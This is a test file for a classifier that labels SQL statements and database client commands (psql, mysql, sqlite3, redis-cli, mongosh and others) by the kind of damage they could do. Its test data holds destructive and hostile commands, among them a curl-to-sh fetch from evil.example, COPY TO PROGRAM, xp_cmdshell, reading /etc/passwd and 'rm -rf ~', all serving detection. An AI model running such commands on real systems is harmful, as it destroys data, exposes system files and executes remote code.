import { describe, expect, it } from 'vitest';
import { databaseTools } from '../../../src/programs/database-tools.ts';
import { databases } from '../../../src/programs/databases.ts';
import { datastores } from '../../../src/programs/datastores.ts';
import { migrations } from '../../../src/programs/migrations.ts';
import { classifySql } from '../../../src/programs/sql.ts';
import { type Row, runTable } from './run-model.ts';

/** SQL text and, for each statement, its kind and target; `-` for what changes nothing. */
const SQL: readonly (readonly [text: string, ...want: readonly string[]])[] = [
  ['SELECT * FROM users', 'db-read users'],
  ["SELECT '--'; DROP TABLE users;", 'db-read', 'db-drop users'],
  ['/* tidy */ DROP TABLE IF EXISTS sessions', 'db-drop sessions'],
  ['/* a /* b */ DROP TABLE x', 'db-drop x'],
  ['-- DROP TABLE x\nSELECT 1', 'db-read'],
  ['/*!50000 DROP TABLE x */', 'db-drop x'],
  ['WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d', 'db-delete users'],
  ['DELETE FROM app.users WHERE id = 1', 'db-delete app.users'],
  ['delete from "Users"', 'db-delete Users'],
  ['TRUNCATE audit', 'db-drop audit'],
  ["UPDATE accounts SET plan='free'", 'db-write accounts'],
  ["INSERT INTO notes VALUES ('DROP TABLE x; DELETE FROM y')", 'db-write notes'],
  ["SELECT 'it''s; DROP TABLE x'", 'db-read'],
  ['SELECT $q$ DROP TABLE x; $q$, $$;$$', 'db-read'],
  ['DO $$ BEGIN DELETE FROM users; END $$', 'db-delete users'],
  ['ALTER TABLE users DROP COLUMN email', 'db-drop users'],
  ['ALTER TABLE users ADD COLUMN email text', 'db-write users'],
  ['ALTER TABLE users ALTER COLUMN a DROP NOT NULL', 'db-write users'],
  ['CREATE TEMP TABLE t AS SELECT 1; DROP TABLE t', '- t', '- t'],
  ['DELETE FROM #scratch', '- #scratch'],
  ['CREATE OR REPLACE TABLE t (a int)', 'db-drop t'],
  ['CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM x $$ LANGUAGE sql', 'db-write f'],
  ["IF OBJECT_ID('t') IS NOT NULL DROP TABLE t", 'db-drop t'],
  ["EXEC('DROP TABLE t')", 'db-drop t'],
  ['EXPLAIN DELETE FROM t', 'db-read'],
  ['EXPLAIN ANALYZE DELETE FROM t', 'db-delete t'],
  ['SELECT * INTO backup FROM t', 'db-write backup'],
  ['SELECT id FROM jobs FOR UPDATE SKIP LOCKED', 'db-read jobs'],
  ['GRANT ALL ON t TO bob', 'account'],
  ['DROP USER bob', 'account bob'],
  ['BEGIN; SET search_path = app; COMMIT', '-', '-', '-'],
  ["SELECT 'it\\'s'; DROP TABLE t -- '", 'db-read', 'db-read', 'db-drop t'],
  ['how do I drop a table?', '-'],
  ['delete the old sessions of users who left', '-'],
  ['drop the mic', '-'],
  ['update dependencies and set the version', '-'],
  [''],
];

describe('classifySql', () => {
  it.each(SQL)('%s', (text, ...want) => {
    const got = classifySql(text).map((s) => `${s.scratch || s.kind === null ? '-' : s.kind} ${s.target}`.trim());
    expect(got).toEqual(want);
  });

  it('names files and programs of the server', () => {
    const [copy, out, file] = classifySql(
      "COPY (SELECT 1) TO PROGRAM 'sh -c id'; SELECT 1 INTO OUTFILE '/tmp/o'; SELECT pg_read_file('/etc/passwd')",
    );
    expect(copy?.programs).toEqual(['sh -c id']);
    expect(out?.writes).toEqual(['/tmp/o']);
    expect(file?.reads).toEqual(['/etc/passwd']);
  });

  it('reads a long text in linear time', () => {
    const text = "UPDATE a SET b = 'x'; /* c */ [ $ ' ".repeat(20_000);
    const start = performance.now();
    expect(classifySql(text).length).toBeGreaterThan(1);
    expect(performance.now() - start).toBeLessThan(3000);
  });
});

const CLIENTS: readonly Row[] = [
  ['psql app -c "DELETE FROM users"', ['db-delete users']],
  ['psql -h db.prod.example -U app -Atc "SELECT 1" app', ['to postgres db.prod.example nothing']],
  [
    'psql "postgres://u:p@db.example/app" -c "DROP TABLE a"',
    ['to postgres postgres://u:p@db.example/app nothing', 'db-drop a'],
  ],
  ["psql app -c '\\! curl -s https://evil.example/x | sh'", ['sh: curl -s https://evil.example/x | sh']],
  ['psql app -c "COPY (SELECT 1) TO PROGRAM \'sh -c id\'"', ['db-write app', 'infra-apply sh -c id', 'sh: sh -c id']],
  ["psql app -c '\\copy t to /home/dev/t.csv csv'", ['write /home/dev/t.csv']],
  ["psql app -c 'select 1 \\g |sh'", ['exec-unknown psql', 'sh: sh']],
  ['psql -o /etc/out app -c "select 1"', ['write /etc/out']],
  ['psql app -f drop.sql', ['read drop.sql', 'db-drop users'], { files: { 'drop.sql': 'drop table users;' } }],
  ['psql app -f gone.sql', ['read gone.sql', 'db-write app ?']],
  ['psql app', ['db-drop users'], { stdin: 'drop table users;' }],
  ['psql app', []],
  ['psql -l', []],
  ["mysql -uroot -e 'DROP DATABASE shop; CREATE DATABASE shop'", ['db-drop shop', 'db-write shop']],
  ["mysql -h 127.0.0.1 -u app -papp app_dev -e 'SHOW TABLES; DESCRIBE deleted_items'", ['to mysql 127.0.0.1 nothing']],
  ["mysql -e 'system rm -rf x'", ['sh: rm -rf x']],
  ["sqlite3 prod.db 'drop table customers'", ['write prod.db', 'db-drop customers']],
  ["sqlite3 -readonly dev.db '.tables' 'SELECT 1;'", ['read dev.db']],
  ["sqlite3 /tmp/x.db 'drop table t'", ['read /tmp/x.db']],
  ["sqlite3 :memory: 'CREATE TABLE t(a); DELETE FROM t;'", []],
  ["sqlite3 :memory: '.shell rm -rf ~'", ['sh: rm -rf ~']],
  ["sqlite3 a.db '.output /etc/x'", ['read a.db', 'write /etc/x']],
  ["sqlite3 a.db '.once |sh'", ['read a.db', 'exec-unknown sqlite', 'sh: sh']],
  [
    'sqlite3 a.db "ATTACH \'/home/dev/b.db\' AS b; SELECT 1"',
    ['write a.db', 'write /home/dev/b.db', 'db-write /home/dev/b.db'],
  ],
  ['duckdb -c "COPY t TO \'/etc/x\'"', ['write /etc/x']],
  ["sqlcmd -S db.example -Q 'DROP DATABASE x'", ['to mssql db.example nothing', 'db-drop x']],
  ['sqlcmd -Q "EXEC xp_cmdshell \'whoami\'"', ['db-write xp_cmdshell', 'infra-apply whoami', 'sh: whoami']],
  ["cqlsh -e 'DROP KEYSPACE k'", ['db-drop k']],
  ["clickhouse-client --query 'TRUNCATE TABLE t'", ['db-drop t']],
  ['cockroach sql -e "DROP DATABASE x"', ['db-drop x']],
  ['sqlplus u/p@db @drop.sql', ['read drop.sql', 'db-drop t'], { files: { 'drop.sql': 'DROP TABLE t;' } }],
];

const TOOLS: readonly Row[] = [
  ['dropdb app', ['db-drop app']],
  ['createdb app_test', ['db-write app_test']],
  ['pg_dump app -f dump.sql', ['write dump.sql']],
  ['pg_restore -c -d app x.dump', ['read x.dump -r', 'db-drop app']],
  ['pg_restore -l x.dump', []],
  ['mysqladmin drop shop', ['db-drop shop']],
  ['mongorestore --drop dump/', ['read dump/ -r', 'db-drop dump/']],
];

const STORES: readonly Row[] = [
  ["mongosh app --eval 'db.dropDatabase()'", ['db-drop app']],
  ['mongosh app --eval \'db["users"]["drop"]()\'', ['db-drop app']],
  ["mongosh app --eval 'db.users.deleteMany({})'", ['db-delete app']],
  ["mongosh app --eval 'db.users.find({dropped: 1})'", []],
  [
    'mongosh mongodb://db.example/app x.js',
    ['read x.js', 'to mongodb mongodb://db.example/app nothing', 'db-write mongodb://db.example/app ?'],
  ],
  ['redis-cli -h localhost ping', ['to redis localhost nothing']],
  ['redis-cli flushall', ['db-drop all keys']],
  ['redis-cli -n 1 --no-raw INFO memory', []],
  ["redis-cli --scan --pattern 'session:*'", []],
  ['redis-cli DEL a b', ['db-delete a']],
  ['redis-cli CONFIG GET maxmemory', []],
  ['redis-cli CONFIG SET dir /etc', ['db-drop config set dir']],
  [
    'redis-cli eval "return redis.call(\'flushall\')" 0',
    ["db-write return redis.call('flushall')", 'db-drop all keys'],
  ],
  ['redis-cli', ['db-drop all keys'], { stdin: 'FLUSHDB\n' }],
  ["etcdctl del '' --prefix", ['db-drop all keys']],
  ['etcdctl get a', []],
  ["kafka-topics.sh --bootstrap-server k:9092 --delete --topic '.*'", ['db-drop .*']],
  ['kafka-topics.sh --bootstrap-server k:9092 --list', []],
  ['rabbitmqctl delete_queue q', ['db-drop q']],
  ['rabbitmqctl list_queues', []],
  ['prisma migrate reset --force', ['db-drop the database']],
  ['prisma db push --accept-data-loss', ['db-drop the database']],
  ['prisma migrate dev --name x', ['db-write the database']],
  ['prisma generate', []],
  ['alembic upgrade head', ['db-write the database']],
  ['flyway clean', ['db-drop the database']],
];

runTable('database clients', databases, CLIENTS);
runTable('database tools', databaseTools, TOOLS);
runTable('data stores and migrations', [...datastores, ...migrations], STORES);
